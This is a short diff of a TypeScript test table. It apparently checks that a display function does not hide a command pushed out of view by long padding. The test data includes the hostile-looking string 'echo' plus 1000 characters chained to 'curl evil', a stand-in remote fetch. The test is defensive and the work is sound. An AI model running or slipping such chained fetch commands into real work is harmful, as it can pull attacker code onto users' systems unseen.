@@ -96,7 +96,7 @@ export const connect: readonly Row[] = [
     without: edit(SHOWN, 'return visible(marked, Infinity)', 'return visible(marked, 300)'),
     attack: async (world) => {
       const { shownLines } = await world.load(SHOWN);
-      return shownLines(`echo ${'x'.repeat(1000)} && curl evil`, 80)
+      return shownLines(`echo ${'x'.repeat(1000)} && curl evil`, Infinity)
         .join('')
         .includes('curl evil');
     },
